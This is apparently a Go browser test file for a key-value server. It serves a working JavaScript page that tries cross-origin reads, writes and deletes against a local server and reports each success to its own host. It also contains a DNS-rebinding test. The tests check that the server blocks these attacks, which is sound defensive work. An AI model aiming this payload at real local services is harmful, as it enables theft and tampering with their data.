package browser

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/runnelkv/runnel/test/runnel"
)

const secret = "the-secret-value"

// attack is a page that tries to read and to change the data of a server, and reports each success to the server of the page.
const attack = `<!doctype html><script>
const victim = %q, report = (what, text) => fetch("/report?what=" + encodeURIComponent(what) + "&text=" + encodeURIComponent(text));
const tries = [];
for (const options of [{}, {mode: "no-cors"}, {credentials: "include"}])
	tries.push(fetch(victim + "/v1/keys/secret", options).then(r => r.text()).then(text => report("read", text)));
for (const credentials of ["same-origin", "include"]) {
	tries.push(fetch(victim + "/v1/keys/changed", {method: "PUT", body: "x", credentials}));
	tries.push(fetch(victim + "/v1/keys/secret", {method: "DELETE", credentials}));
	tries.push(fetch(victim + "/v1/batch", {method: "POST", mode: "no-cors", body: '[{"op":"put","key":"changed","value":"x"}]', credentials}));
	tries.push(fetch(victim + "/bucket/changed", {method: "POST", mode: "no-cors", body: "x", credentials}));
	tries.push(fetch(victim + "/v1/sync", {method: "POST", mode: "no-cors", credentials}));
}
for (const make of [() => Object.assign(new Image(), {src: victim + "/v1/keys/secret"}),
	() => Object.assign(document.createElement("script"), {src: victim + "/v1/keys/secret"}),
	() => Object.assign(document.createElement("iframe"), {src: victim + "/v1/keys?prefix="})])
	tries.push(new Promise(done => { const e = make(); e.onload = () => { done(report(e.tagName, "loaded")) }; e.onerror = done; document.documentElement.append(e) }));
Promise.allSettled(tries).then(() => report("done", ""));
</script>`

// attacker serves the page of the attack and receives the reports.
type attacker struct {
	*httptest.Server
	mu      sync.Mutex
	reports []string
	done    chan struct{}
}

// newAttacker starts a server without TLS.
func newAttacker(t *testing.T, victim string) *attacker {
	a := prepareAttacker(victim)
	a.Start()
	t.Cleanup(a.Close)
	return a
}

// prepareAttacker returns a server that is not started.
func prepareAttacker(victim string) *attacker {
	a := &attacker{done: make(chan struct{})}
	a.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		what := r.URL.Query().Get("what")
		switch {
		case r.URL.Path == "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attack, victim)
		case what == "done":
			close(a.done)
		case what != "":
			a.mu.Lock()
			defer a.mu.Unlock()
			a.reports = append(a.reports, what+": "+r.URL.Query().Get("text"))
		}
	}))
	return a
}

// run opens the page of the attack from a host in a new browser, and returns the reports.
func (a *attacker) run(t *testing.T, host string, flags ...chromedp.ExecAllocatorOption) []string {
	t.Helper()
	return a.runIn(t, open(t, flags...), host)
}

// runIn opens the page of the attack from a host in a tab, and returns the reports.
func (a *attacker) runIn(t *testing.T, tab context.Context, host string) []string {
	t.Helper()
	u, err := url.Parse(a.URL)
	if err != nil {
		t.Fatal(err)
	}
	visit(t, tab, u.Scheme+"://"+host+":"+u.Port()+"/")
	select {
	case <-a.done:
	case <-time.After(perPage):
		t.Fatal("the attack did not end")
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.reports
}

// TestPagesOfOtherOriginsCanDoNothing runs the attack from another port of the same host and from another site.
func TestPagesOfOtherOriginsCanDoNothing(t *testing.T) {
	for _, host := range []string{"127.0.0.1", "localhost"} {
		t.Run(host, func(t *testing.T) {
			checkAttackSucceeds(t, host)
			p := runnel.Serve(t, "--data", t.TempDir())
			put(t, p.URL+"/v1/keys/secret", secret, "text/plain", "")
			for _, report := range newAttacker(t, p.URL).run(t, host) {
				if strings.Contains(report, secret) || strings.HasPrefix(report, "IMG") || strings.HasPrefix(report, "SCRIPT") {
					t.Errorf("the page could read: %s", report)
				}
			}
			if got := body(t, p.URL+"/v1/keys/secret"); got != secret {
				t.Errorf("the secret is now %q", got)
			}
			if got := body(t, p.URL+"/v1/keys?prefix=&limit=10"); strings.Contains(got, "changed") {
				t.Errorf("the page could write: %s", got)
			}
		})
	}
}

// checkAttackSucceeds runs the attack on a server without protection.
func checkAttackSucceeds(t *testing.T, host string) {
	t.Helper()
	var mu sync.Mutex
	methods := map[string]bool{}
	weak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		methods[r.Method] = true
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Methods", "*")
		io.WriteString(w, secret)
	}))
	defer weak.Close()
	reports := strings.Join(newAttacker(t, weak.URL).run(t, host), "\n")
	mu.Lock()
	defer mu.Unlock()
	if !strings.Contains(reports, "read: "+secret) || !methods["PUT"] || !methods["DELETE"] || !methods["POST"] {
		t.Fatalf("the attack fails on a server without protection: %v\n%s", methods, reports)
	}
}

// TestRebindingIsRefused lets a foreign name resolve to the server.
func TestRebindingIsRefused(t *testing.T) {
	p := runnel.Serve(t, "--data", t.TempDir())
	tab := open(t, chromedp.Flag("host-resolver-rules", "MAP rebound.example 127.0.0.1"))
	for _, path := range []string{"/", "/v1/keys?prefix=", "/v1/status", "/v1/keys/secret"} {
		if status := visit(t, tab, strings.Replace(p.URL, "127.0.0.1", "rebound.example", 1)+path); status != http.StatusMisdirectedRequest {
			t.Errorf("%s: %d, want 421", path, status)
		}
	}
	if status := visit(t, tab, p.URL+"/"); status != http.StatusOK {
		t.Errorf("by its own name: %d", status)
	}
}

func body(t *testing.T, url string) string {
	t.Helper()
	answer, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
